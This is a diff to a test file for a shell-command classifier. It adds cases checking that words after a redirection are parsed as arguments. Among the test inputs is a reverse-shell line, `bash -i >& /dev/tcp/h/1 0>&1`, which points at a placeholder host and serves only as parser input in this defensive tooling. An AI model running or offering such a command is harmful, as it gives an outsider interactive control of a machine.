@@ -120,6 +120,16 @@ describe('the commands found', () => {
     expect(classify('sh 0 <notes.txt').commands[0]?.args).toEqual(['0']);
   });
 
+  it('reads words after a redirection as arguments, as bash does, not as more targets', () => {
+    expect(classify('rm >/dev/null -rf build').commands[0]?.args).toEqual(['-rf', 'build']);
+    expect(classify('rm 2>&1 -rf build').commands[0]?.args).toEqual(['-rf', 'build']);
+    expect(classify('rm <<EOF -rf build\nx\nEOF').commands[0]?.args).toEqual(['-rf', 'build']);
+    expect(classify('cat <in -a1>out x').commands[0]?.args).toEqual(['-a1', 'x']);
+    expect(classify('head -12<file').commands[0]?.args).toEqual(['-12']);
+    // A number against the next redirection stays its descriptor.
+    expect(classify('bash -i >& /dev/tcp/h/1 0>&1').commands[0]?.args).toEqual(['-i']);
+  });
+
   it('keeps a lone `-` that a redirection follows, which the shell parser drops', () => {
     expect(classify("make -f - <<'EOF'\nall:\nEOF").commands[0]?.args).toEqual(['-f', '-']);
     expect(classify('cat -<<EOF\nx\nEOF').commands[0]?.args).toEqual(['-']);
